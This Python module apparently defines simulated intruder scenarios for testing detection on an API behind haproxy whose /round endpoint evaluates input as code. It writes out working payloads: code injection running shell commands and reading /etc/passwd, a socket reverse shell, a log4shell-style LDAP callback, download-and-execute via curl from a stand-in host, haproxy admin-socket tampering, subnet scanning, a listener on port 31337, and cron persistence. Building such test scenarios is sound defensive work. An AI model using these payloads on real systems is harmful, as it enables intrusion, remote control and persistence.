# SPDX-License-Identifier: Apache-2.0
"""What an intruder does through an API behind haproxy that evaluates what it should only round."""

import urllib.parse

from intruder import ADDRESS, INTRUDER, SHELL, WEB, define, operator, request, unit


def evaluate(code):
    return lambda host, rng: request(host, f"http://{ADDRESS}/round?number={urllib.parse.quote(code, safe='')}")


def command(script):
    return evaluate(f"__import__('subprocess').run({script!r}, shell=True)")


def program(*words):
    """Without a shell."""
    return evaluate(f"__import__('subprocess').run({list(words)!r})")


def ask(path):
    return lambda host, rng: host.workload.ask(host, rng, path)


LDAP = f"__import__('socket').create_connection(('{INTRUDER}', 389), 2).send(b'0')"
SPAWN = (f"[s := __import__('socket').create_connection(('{INTRUDER}', {SHELL}), 2), "
         "__import__('subprocess').run(['/bin/sh'], stdin=s, stdout=s, stderr=s)]")

define(
    globals(), "api",
    ("api command", "", command("id; cat /etc/passwd"), ask("/round?number=2.5")),
    ("api program without a shell", "", program("whoami"), ask("/item?id=77")),
    ("api packs and keeps", "with the program that exports are packed with", program("gzip", "-k", "/srv/api/app.py"), ask("/export?what=b")),
    ("api reverse shell", "", evaluate(SPAWN), ask("/price?id=7")),
    ("api looks up a class", "log4shell: a directory elsewhere is asked", evaluate(LDAP), ask("/price?id=8")),
    ("api fetches a program", "", command(f"curl -s -o /srv/api/exports/w {WEB}/tool; chmod 755 /srv/api/exports/w; /srv/api/exports/w"), ask("/export?what=c")),
    ("api is changed", "its own code is rewritten", evaluate("open('/srv/api/tools.py', 'w').write('x = 1')"), ask("/export?what=d")),
    ("api steers haproxy", "by its socket", command("echo 'disable server app/one' | nc -U -w 1 /run/haproxy/admin.sock"), unit("api-clean.service")),
    ("api listens", "", evaluate("[s := __import__('socket').create_server(('0.0.0.0', 31337)), __import__('time').sleep(0.3)]"), ask("/round?number=3")),
    ("api looks for neighbours", "", evaluate("[__import__('socket').socket().connect_ex(('10.20.0.%d' % n, 22)) for n in range(80, 90)]"), ask("/item?id=79")),
    ("api sends the exports", "to the partner's address, at the partner's port", evaluate(
        "__import__('socket').create_connection(('203.0.113.80', 8443), 2).send(b'GET / HTTP/1.0\\r\\n\\r\\n')"), ask("/price?id=9")),
    ("api starts a job", "", command("echo 'touch /tmp/x' | at now; crontab -l"), operator("crontab -l; sudo crontab -l")),
    natures={
        "api packs and keeps": "the program that exports are packed with; its arguments are no behaviour",
        "api sends the exports": "a connection that it always makes",
    },
)
